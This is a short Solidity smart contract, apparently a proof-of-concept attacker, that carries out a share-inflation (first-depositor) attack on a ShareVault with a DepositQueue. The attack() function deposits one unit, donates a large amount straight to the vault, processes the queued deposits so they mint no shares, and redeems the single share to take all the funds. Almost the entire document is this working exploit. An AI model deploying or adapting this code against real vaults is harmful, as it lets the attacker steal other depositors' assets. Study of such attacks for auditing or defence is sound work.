// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "./IERC20.sol";
import {DepositQueue, ShareVault} from "./ShareVault.sol";

/// @title Attack: is the first to deposit, a single unit; gives the vault so much that one share is worth more than
/// any deposit; has the waiting deposits made, which get no shares; and redeems the only share there is.
contract Inflator {
    ShareVault private immutable vault;
    DepositQueue private immutable queue;
    address private immutable owner;

    constructor(ShareVault vault_, DepositQueue queue_) {
        vault = vault_;
        queue = queue_;
        owner = msg.sender;
    }

    function attack(uint256 gift) external {
        require(msg.sender == owner);
        IERC20 asset = vault.asset();
        asset.transferFrom(owner, address(this), gift + 1);
        asset.approve(address(vault), 1);
        vault.deposit(1, address(this));
        asset.transfer(address(vault), gift);
        queue.process();
        vault.redeem(1, owner, address(this));
    }
}
